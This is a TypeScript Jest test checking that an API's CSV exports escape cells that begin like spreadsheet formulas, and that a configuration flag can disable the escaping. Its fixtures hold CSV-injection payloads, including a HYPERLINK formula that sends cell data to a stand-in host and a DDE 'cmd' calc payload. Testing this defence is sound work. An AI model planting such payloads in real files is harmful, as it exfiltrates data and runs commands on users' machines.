import { parse } from 'csv-parse/sync';
import { Client } from 'pg';
import { type QueryApiHarness, startQueryApi } from '../../../test/query-api-harness';

jest.setTimeout(60_000);

const KEY = 'qk-csv-secret';
const LOG = '71000000-0000-4000-8000-000000000001';
const FILE = '71000000-0000-4000-8000-000000000002';
/** What a hostile file can put in a cell: each starts like a spreadsheet formula. */
const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];

/** A log whose name, tags and messages start like formulas, and a sensor with negative readings. */
async function seed(url: string): Promise<void> {
  const c = new Client({ connectionString: url });
  await c.connect();
  try {
    await c.query(
      `INSERT INTO ingest_files (id, source, original_name, stored_path, sha256, size_bytes, kind, status, rows_total, rows_loaded, tag_counts)
       VALUES ($1, 'dropzone', '=cmd.log', 'processed/=cmd.log', repeat('a', 64), 100, 'log', 'processed', 6, 6, '{}')`,
      [LOG],
    );
    for (const [i, message] of FORMULAS.entries()) {
      await c.query(`INSERT INTO log_lines (file_id, line, ts, tag, message) VALUES ($1, $2, NULL, $3, $4)`, [LOG, i + 1, i === 0 ? '@tag' : 'info', message]);
    }
    await c.query(`INSERT INTO sensors (id, name) VALUES (1, '=evil/temp')`);
    await c.query(`INSERT INTO raw_sensor_data (sensor_id, ts, value, file_id) VALUES (1, '2024-01-01T00:00:00Z', -1.5, $1), (1, '2024-01-01T00:00:01Z', 3, $1)`, [FILE]);
  } finally {
    await c.end();
  }
}

describe('CSV exports neutralise formulas (real PostgreSQL)', () => {
  const csvOf = async (api: QueryApiHarness, path: string) => {
    const res = await fetch(`${api.base}${path}`, { headers: { 'x-api-key': KEY, accept: 'text/csv' } });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    return res.text();
  };

  describe('by default', () => {
    let api: QueryApiHarness;
    beforeAll(async () => (api = await startQueryApi('query_csv', KEY, seed)));
    afterAll(async () => api?.close());

    it('GET /logs: every text cell that starts like a formula is quoted behind a single quote', async () => {
      const rows = parse(await csvOf(api, '/logs?order=asc'), { columns: true }) as Record<string, string>[];
      expect(rows.map((r) => r['message'])).toEqual(FORMULAS.map((f) => `'${f}`));
      expect(rows.every((r) => r['file_name'] === `'=cmd.log`)).toBe(true);
      expect(rows[0]['tag']).toBe(`'@tag`);
      // Numbers stay numbers.
      expect(rows.map((r) => r['line'])).toEqual(['1', '2', '3', '4', '5', '6']);
    });

    it('GET /sensors/{name}/readings: negative values stay numbers', async () => {
      expect(await csvOf(api, `/sensors/${encodeURIComponent('=evil/temp')}/readings`)).toBe(
        `ts,value,file_id\n2024-01-01T00:00:00.000000Z,-1.5,${FILE}\n2024-01-01T00:00:01.000000Z,3,${FILE}\n`,
      );
    });
  });

  describe('with CSV_FORMULA_ESCAPE=false (machine consumers)', () => {
    let api: QueryApiHarness;
    beforeAll(async () => (api = await startQueryApi('query_csv_raw', KEY, seed, { CSV_FORMULA_ESCAPE: 'false' })));
    afterAll(async () => api?.close());

    it('writes the cells as stored', async () => {
      const rows = parse(await csvOf(api, '/logs?order=asc'), { columns: true }) as Record<string, string>[];
      expect(rows.map((r) => r['message'])).toEqual(FORMULAS);
      expect(rows[0]['file_name']).toBe('=cmd.log');
    });
  });
});
